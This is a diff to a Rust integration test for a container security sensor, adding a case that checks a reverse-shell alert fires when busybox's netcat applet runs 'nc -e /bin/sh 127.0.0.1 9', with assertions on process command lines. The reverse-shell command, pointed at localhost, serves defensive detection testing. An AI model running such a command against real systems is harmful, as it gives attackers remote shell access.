@@ -104,6 +104,18 @@ fn reverse_shell_fires_for_netcat_exec_dev_tcp_relay_parent_and_python_socket() 
     assert_out(&alert, "proc.exepath", "/bin/busybox");
     assert_out(&alert, "user.name", CTR_USER);
 
+    // The same from busybox's shell, which runs its nc applet as /proc/self/exe (comm `exe`).
+    ctr.exec(&["/bin/sh", "-c", "nc -e /bin/sh 127.0.0.1 9; true"]);
+    let alert = sensor.wait_alert(&REVERSE_SHELL, |a| {
+        out_is(a, "proc.cmdline", "exe -e /bin/sh 127.0.0.1 9")
+            && out_is(a, "container.id", ctr.short_id())
+    });
+    assert_out(
+        &alert,
+        "proc.pcmdline",
+        "sh -c nc -e /bin/sh 127.0.0.1 9; true",
+    );
+
     // bash's /dev/tcp redirection in a shell's arguments (busybox sh rejects it: no matter).
     let marker = unique("devtcp");
     let tcp = ctr.exec(&[
